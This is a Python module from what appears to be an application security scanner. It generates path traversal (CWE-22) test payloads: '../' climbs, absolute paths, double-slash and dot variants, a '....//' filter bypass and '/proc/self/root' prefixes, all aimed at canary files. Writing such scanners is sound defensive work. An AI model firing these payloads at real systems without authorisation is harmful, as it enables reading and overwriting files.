"""File paths (CWE-22): a file outside is read, overwritten or made.

The files outside exist without a suffix and with common ones, for applications that append theirs.
"""

from __future__ import annotations

from collections.abc import Callable

from stockade.tools.attack.model import Evidence, Payload, Technique
from stockade.tools.attack.payloads import Aim

__all__ = ["SUFFIXES", "TECHNIQUES"]

SUFFIXES = ("", ".txt", ".html", ".json", ".csv", ".md", ".log", ".yaml", ".pdf", ".png")
_TO_THE_ROOT = "../" * 16


def _existing(id: str, spell: Callable[[str], str], *, representative: bool = False) -> Technique:
    """It shows the canary, or overwrites it."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(spell(f"{aim.outside}/canary"), Evidence((aim.canary,), "canary")),)

    return Technique(id, make, representative)


def _new(id: str, spell: Callable[[str], str]) -> Technique:
    """It makes a file."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(spell(f"{aim.outside}/{aim.mark}"), Evidence((), aim.mark)),)

    return Technique(id, make)


TECHNIQUES = (
    _existing("path.climb", lambda file: _TO_THE_ROOT + file[1:], representative=True),
    _existing("path.absolute", lambda file: file, representative=True),
    _existing("path.absolute-double", lambda file: "/" + file.replace("/", "//")),
    _existing("path.absolute-dots", lambda file: "/./" + file[1:].replace("/", "/./")),
    _existing("path.climb-double", lambda file: ".//..//" + "..//" * 16 + file[1:]),
    _existing("path.climb-twice", lambda file: "....//" * 16 + file[1:]),
    _existing("path.process-root", lambda file: "/proc/self/root" + file),
    _new("path.new-climb", lambda file: _TO_THE_ROOT + file[1:]),
    _new("path.new-absolute", lambda file: file),
)
